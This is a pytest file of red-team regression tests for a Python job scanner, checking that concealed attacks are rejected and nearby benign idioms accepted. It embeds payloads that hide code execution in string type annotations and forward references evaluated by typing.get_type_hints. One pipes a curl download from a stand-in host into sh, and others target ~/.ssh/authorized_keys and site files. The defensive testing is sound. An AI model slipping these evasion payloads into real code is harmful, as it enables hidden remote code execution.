"""Red team 11: attacks on main as it stood at the start of session 25. Each attack here was accepted
before its fix and must stay caught; the legitimate idiom nearest to each must stay accepted.
Samples: corpus/*/rt11_*."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.engine.annotations import UNREADABLE, unquoted
from analyzer.model import Decision


def _scan(tmp_path: Path, source: str, name: str = "train.py"):
    return kit.scan_source(tmp_path, source, name)


# typing.get_type_hints evaluates string annotations (and strings nested in them) with eval();
# functools.singledispatch().register calls it on the overload it is handed.
STRING_ANNOTATION_PAYLOADS = {
    "singledispatch-overload": (
        "import functools\nimport torch\n\n@functools.singledispatch\ndef f(v):\n    return v\n\n"
        "@f.register\ndef _(v: \"__import__('os').system('curl -s https://x.example/s | sh') or torch.Tensor\"):\n"
        "    return v\n"),
    "namedtuple-field-checked": (
        "import typing\n\nclass Cfg(typing.NamedTuple):\n"
        "    lr: \"__import__('subprocess').getoutput('id') and float\" = 0.1\n\ntyping.get_type_hints(Cfg)\n"),
    "nested-in-a-generic": (
        "import typing\nfrom typing import List\n\ndef f(rows: List[\"__import__('os').system('id') or int\"]):\n"
        "    return rows\n\ntyping.get_type_hints(f)\n"),
    "over-two-lines-with-a-comment": (
        "import typing\n\ndef f(x: \"\"\"(__import__('os').system('id')  # note\n or int)\"\"\") -> int:\n"
        "    return x\n\ntyping.get_type_hints(f)\n"),
    "unpacked-reference": (
        "import typing\n\ndef f(*a: \"*[__import__('os').system('id')]\"):\n    return a\n\ntyping.get_type_hints(f)\n"),
    "return-annotation-future-import": (
        "from __future__ import annotations\nimport typing\n\n"
        "def f(x: int) -> \"__import__('os').system('id') or int\":\n    return x\n\ntyping.get_type_hints(f)\n"),
}


@pytest.mark.parametrize("name", sorted(STRING_ANNOTATION_PAYLOADS))
def test_string_annotation_is_read_as_code(tmp_path: Path, name: str) -> None:
    report = _scan(tmp_path, STRING_ANNOTATION_PAYLOADS[name])
    assert report.decision is Decision.REJECT, (name, kit.rules(report))


def test_string_annotation_keeps_its_line(tmp_path: Path) -> None:
    report = _scan(tmp_path, STRING_ANNOTATION_PAYLOADS["over-two-lines-with-a-comment"])
    assert {f.line for f in report.findings if f.rule == "subprocess.shell"} == {3}


def test_forward_references_and_typing_values_stay_accepted(tmp_path: Path) -> None:
    source = (
        "import typing\nfrom typing import Annotated, Literal, Optional\nimport torch\nfrom torch import nn\n\n"
        "class Net(nn.Module):\n"
        "    def forward(self, x: \"torch.Tensor\", mode: Literal[\"a b\", \"c(d)\"] = \"a b\") -> \"Net\":\n"
        "        return self\n\n"
        "def f(n: Annotated[int, \"count(of) rows\"], m: \"Optional[Net]\" = None) -> \"not an expression!\":\n"
        "    return n\n\ntyping.get_type_hints(f)\n")
    report = _scan(tmp_path, source)
    kit.assert_accepted(report)


def test_an_annotation_that_does_not_fit_back_is_an_unknown(tmp_path: Path) -> None:
    # A name spelled with an escape that a latin-1 file cannot hold: put back, it would not parse,
    # so every annotation of the file stands for the unknown name (never accepted) instead.
    source = b"# -*- coding: latin-1 -*-\ndef f(x: \"caf\\u03b1\", y: \"int\"):\n    pass\n"
    data, tree = unquoted(source, ast.parse(source))
    assert data.count(UNREADABLE.encode()) == 2 and tree.body
    report = _scan(tmp_path, source.decode("latin-1"))
    assert report.decision is not Decision.ACCEPT


def test_a_string_in_a_string_annotation_keeps_its_text_in_any_encoding(tmp_path: Path) -> None:
    source = "# -*- coding: latin-1 -*-\nimport os\n\ndef f(x: \"os.system('\\u20ac') or int\"):\n    pass\n"
    (tmp_path / "train.py").write_bytes(source.encode("latin-1"))
    assert "subprocess.shell" in kit.rules(kit.scan(tmp_path / "train.py"))


@pytest.mark.parametrize("sample", ["malicious/rt11_singledispatch_string_annotation.py",
                                    "malicious/rt11_type_hints_config_annotation.py",
                                    "jobs/rt11_annotation_payload_in_helper",
                                    "malicious/rt11_hf_argument_parser_annotation.py"])
def test_corpus_string_annotation_samples_reject(sample: str) -> None:
    assert kit.scan_sample(sample).decision is Decision.REJECT


def test_corpus_forward_reference_twin_is_accepted() -> None:
    assert kit.scan_sample("benign/rt11_forward_reference_annotations.py").decision is Decision.ACCEPT


# Strings typing evaluates outside annotations: items of typing forms, fields of typing's factories,
# and what the job writes into an __annotations__ mapping.
FORWARD_REFERENCE_PAYLOADS = {
    "alias-of-a-typing-form": (
        "import typing\nfrom typing import List\nAlias = List[\"__import__('os').system('id') or float\"]\n\n"
        "def f(x: Alias):\n    return x\n\ntyping.get_type_hints(f)\n", Decision.REJECT),
    "builtin-generic-through-a-name": (
        "import typing\nT = \"__import__('os').system('id') or float\"\nAlias = dict[str, T]\n\n"
        "def f(x: Alias):\n    return x\n\ntyping.get_type_hints(f)\n", Decision.REJECT),
    "namedtuple-fields-in-a-list": (
        "import typing\nFIELDS = [(\"a\", \"int\"), (\"b\", \"__import__('os').system('id') or int\")]\n"
        "C = typing.NamedTuple(\"C\", FIELDS)\ntyping.get_type_hints(C)\n", Decision.REJECT),
    "typeddict-fields": (
        "import typing\nC = typing.TypedDict(\"C\", {\"a\": \"__import__('os').system('id') or int\"})\n"
        "typing.get_type_hints(C)\n", Decision.REJECT),
    "annotations-item-store": (
        "import typing\nclass C:\n    x: int\nC.__annotations__[\"x\"] = \"__import__('os').system('id') or int\"\n"
        "typing.get_type_hints(C)\n", Decision.ESCALATE),
    "annotations-update": (
        "import typing\ndef f(x: int):\n    return x\nf.__annotations__.update(x=\"__import__('os').system('id') or int\")\n"
        "typing.get_type_hints(f)\n", Decision.ESCALATE),
    "annotations-alias": (
        "import typing\ndef f(x: int):\n    return x\nnotes = f.__annotations__\n"
        "notes[\"x\"] = \"__import__('os').system('id') or int\"\ntyping.get_type_hints(f)\n", Decision.ESCALATE),
}


@pytest.mark.parametrize("name", sorted(FORWARD_REFERENCE_PAYLOADS))
def test_forward_reference_outside_annotations(tmp_path: Path, name: str) -> None:
    source, decision = FORWARD_REFERENCE_PAYLOADS[name]
    assert _scan(tmp_path, source).decision is decision, name


def test_typing_values_and_annotation_reads_stay_accepted(tmp_path: Path) -> None:
    source = (
        "import dataclasses\nimport typing\nfrom typing import Annotated, Dict, List, Literal, NamedTuple, Optional\n\n"
        "Mode = Literal[\"log(x)\", \"a + b\"]\nRows = Annotated[int, \"count(rows)\"]\n"
        "Maybe = Optional[\"List[Dict[str, float]] | None\"]\n"
        "Pair = NamedTuple(\"Pair\", [(\"a\", \"int\"), (\"b\", \"Maybe\")])\n\n"
        "@dataclasses.dataclass\nclass Cfg:\n    lr: float = 0.1\n    mode: Mode = \"log(x)\"\n\n"
        "for name, kind in Cfg.__annotations__.items():\n    print(name, kind)\n"
        "if \"lr\" in Cfg.__annotations__:\n    print(Cfg.__annotations__[\"lr\"])\n"
        "print(typing.get_type_hints(Cfg))\n")
    report = _scan(tmp_path, source)
    kit.assert_accepted(report)


@pytest.mark.parametrize("sample", ["malicious/rt11_type_alias_forward_reference.py",
                                    "malicious/rt11_namedtuple_functional_fields.py"])
def test_corpus_forward_reference_samples_reject(sample: str) -> None:
    assert kit.scan_sample(sample).decision is Decision.REJECT


def test_corpus_annotations_write_sample_is_never_accepted() -> None:
    report = kit.scan_sample("malicious/rt11_annotations_mapping_write.py")
    assert "dynamic-code.annotations-write" in kit.rules(report) and report.decision is not Decision.ACCEPT


def test_matplotlib_backend_module_is_an_import_the_catalogue_judges(tmp_path: Path) -> None:
    report = _scan(tmp_path, "import matplotlib\nmatplotlib.use('module://unittest.__main__')\n")
    assert report.decision is not Decision.ACCEPT
    assert _scan(tmp_path, "import matplotlib\nmatplotlib.use('Agg')\n", "plot.py").decision is Decision.ACCEPT
    assert kit.scan_sample("malicious/rt11_matplotlib_backend_module.py").decision is not Decision.ACCEPT


def test_a_walrus_in_a_string_annotation_binds_nothing_in_the_job() -> None:
    # eval() binds `rows` in get_type_hints' namespace; read in place it would rebind the job's `rows`
    # (raw data) to the model's state, and the flow would send clean values.
    source = b"def f(x: \"(rows := model.state_dict()) and int\"):\n    return x\n"
    data, tree = unquoted(source, ast.parse(source))
    lambdas = [n for n in ast.walk(tree) if isinstance(n, ast.Lambda)]
    walruses = [n for n in ast.walk(tree) if isinstance(n, ast.NamedExpr)]
    assert lambdas and all(any(w in ast.walk(lam) for lam in lambdas) for w in walruses)


@pytest.mark.parametrize("target", ["'/data/site/cohort.csv'", "os.path.expanduser('~/.ssh/authorized_keys')",
                                    "'startup/client.key.lock'", "sys.argv[1]", "lock_file=DATA"])
def test_filelock_on_anything_but_a_lock_file_is_not_vouched(tmp_path: Path, target: str) -> None:
    # filelock 3 truncates and fchmods the file it locks (filelock/_unix.py).
    source = f"import os, sys\nfrom filelock import FileLock\nDATA = '/data/x.csv'\nwith FileLock({target}):\n    pass\n"
    assert _scan(tmp_path, source).decision is not Decision.ACCEPT, target


def test_filelock_on_a_lock_file_stays_accepted(tmp_path: Path) -> None:
    source = ("import os\nfrom filelock import FileLock\nROOT = '/tmp/nvflare/data'\n"
              "with FileLock(os.path.join(ROOT, 'cifar10.lock')):\n    pass\n"
              "with FileLock(lock_file='.data_download.lock', timeout=60):\n    pass\n")
    assert _scan(tmp_path, source).decision is Decision.ACCEPT
    assert kit.scan_sample("malicious/rt11_filelock_truncates_site_data.py").decision is not Decision.ACCEPT


@pytest.mark.parametrize("folder", ["'shutdown.fl'", "os.path.join(os.getcwd(), 'restart.fl')",
                                    "'local/resources.json'", "'startup'", "'/mnt/nfs/lab/out'"])
def test_makedirs_where_the_site_keeps_its_own_files_is_not_vouched(tmp_path: Path, folder: str) -> None:
    source = f"import os\nos.makedirs({folder}, exist_ok=True)\n"
    assert _scan(tmp_path, source).decision is not Decision.ACCEPT, folder


@pytest.mark.parametrize("source", ["from pathlib import Path\nPath('shutdown.fl').mkdir(exist_ok=True)\n",
                                    "from pathlib import Path\nPath.mkdir(Path('local') / 'privacy.json')\n",
                                    "from pathlib import Path\ndef prep(root):\n    (root / 'restart.fl').mkdir()\n"
                                    "prep(Path('.'))\n"])
def test_path_mkdir_where_the_site_keeps_its_own_files_is_not_vouched(tmp_path: Path, source: str) -> None:
    assert _scan(tmp_path, source).decision is not Decision.ACCEPT, source


def test_makedirs_for_outputs_and_scratch_stays_accepted(tmp_path: Path) -> None:
    source = ("import os, sys\nos.makedirs('/tmp/nvflare/data', exist_ok=True)\nos.makedirs(sys.argv[1], exist_ok=True)\n"
              "os.makedirs(os.path.join(os.path.dirname(__file__), '..', 'outputs'), exist_ok=True)\n"
              "os.mkdir('checkpoints')\nfrom pathlib import Path\nPath('outputs').mkdir(parents=True, exist_ok=True)\n"
              "(Path(__file__).parent / 'ckpt').mkdir(exist_ok=True)\nPath(sys.argv[1]).mkdir(exist_ok=True)\n")
    assert _scan(tmp_path, source).decision is Decision.ACCEPT
    assert kit.scan_sample("malicious/rt11_makedirs_shutdown_marker.py").decision is not Decision.ACCEPT


# Closed by red team 18: the annotation `x: Alias` is read through the alias (dynamic-code.annotation-value, escalate).
def test_forward_reference_in_a_generic_class_of_the_job(tmp_path: Path) -> None:
    source = ("import typing\nT = typing.TypeVar(\"T\")\n\nclass Box(typing.Generic[T]):\n    pass\n\n"
              "Alias = Box[\"__import__('os').system('id') or int\"]\n\ndef f(x: Alias):\n    return x\n\n"
              "typing.get_type_hints(f)\n")
    assert _scan(tmp_path, source).decision is not Decision.ACCEPT


def test_items_of_instances_are_no_forward_references(tmp_path: Path) -> None:
    source = ("import collections\nh = collections.OrderedDict()\nh['content-type'] = 'text/plain'\n"
              "print(h['content-type'], collections.Counter('ab')['a-b'], dict(a=1)['a-b' if False else 'a'])\n"
              "class Message:\n    def __getitem__(self, k):\n        return k\n    def kind(self):\n"
              "        return self['Content-Type']\n")
    assert "dynamic-code.forward-reference" not in kit.rules(_scan(tmp_path, source))
